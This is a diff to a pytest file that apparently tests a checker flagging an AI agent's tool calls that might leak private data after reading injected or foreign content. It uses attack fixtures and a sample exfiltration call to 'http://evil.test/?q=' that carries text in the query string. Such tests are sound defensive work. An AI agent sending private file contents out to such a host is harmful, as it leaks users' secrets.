@@ -12,7 +12,7 @@ from typing import Any
 import pytest
 
 from flow.cases import ATTACKS, BASE, BENIGN, INJECTED, MAIL, SECRET, G, file, get, goal, page, send, tool
-from kairos_mcp.core.flow import Call, Finding, Row, covers, judge
+from kairos_mcp.core.flow import Call, Finding, PrivateWords, Row, covers, judge
 
 ASKED_ALTHOUGH_ORDINARY = ("composed address after a foreign page", "search with own words, after both")
 UNSEEN: dict[str, tuple[tuple[Row, ...], Call]] = {
@@ -173,7 +173,7 @@ def test_more_than_is_looked_through_is_asked_about(monkeypatch: pytest.MonkeyPa
     (found,) = judge(send("mail", "send", to="ann@corp.test", body=many), rows)
     assert found.words == "what could not be looked through"
     private = Row("r", "read_file", "", " ".join(f"Ab{n}" for n in range(1_000, 2_000)), is_trusted=True)
-    (found,) = judge(get("http://news.test/?q=ab1x"), (*rows, private))
+    (found,) = judge(get("http://news.test/?q=ab1x+ab1y"), (*rows, private))
     assert found.words == "what could not be looked through"
 
 
@@ -202,6 +202,19 @@ def test_one_more_row_of_others_takes_no_question_away_about_where_a_call_goes()
             assert before <= {each.argument for each in judge(call, (*rows, more)) if each.rule == "where"}
 
 
+def test_what_was_taken_in_of_rows_out_of_view_makes_no_difference() -> None:
+    """A run keeps it from call to call; which rows a call has in view differs."""
+    kept = PrivateWords()
+    for rows, calls in (*ATTACKS.values(), *BENIGN.values()):
+        for row in rows:
+            kept.add(row)
+        assert [judge(call, rows, frozenset(), kept) for call in calls] == [judge(call, rows) for call in calls]
+    more = Row("round-9/call-1", "read_file", "", "pharmacists of Acme", is_trusted=True)
+    kept.add(more)
+    rows = (G, file("notes.md", "pharmacmeists of the town", 3), page("http://docs.test/howto", "x"))
+    assert judge(get("http://docs.test/?q=acme"), rows, frozenset(), kept) == ()
+
+
 def text_of(random_words: random.Random, chars: int) -> str:
     letters = "abcdefghijklmnopqrstuvwxyz"
     words = ("".join(random_words.choice(letters) for _ in range(random_words.randint(3, 11))) for _ in range(chars))
@@ -219,10 +232,11 @@ def test_a_call_with_many_rows_in_view_is_judged_quickly() -> None:
         own = {"is_trusted": bool(n % 3), "is_private": bool(n % 3), "found_by": found_by}
         rows.append(Row(f"round-{n}/call-1", "read_file", "", text_of(numbers, 8_000), **own))
     call = get("http://evil.test/?q=" + text_of(numbers, 60).replace(" ", "+"))
-    judge(call, rows)
+    kept = PrivateWords()
+    judge(call, rows, frozenset(), kept)
     times = []
     for _ in range(9):
         begin = time.process_time()
-        judge(call, rows)
+        judge(call, rows, frozenset(), kept)
         times.append(time.process_time() - begin)
     assert min(times) < 0.2
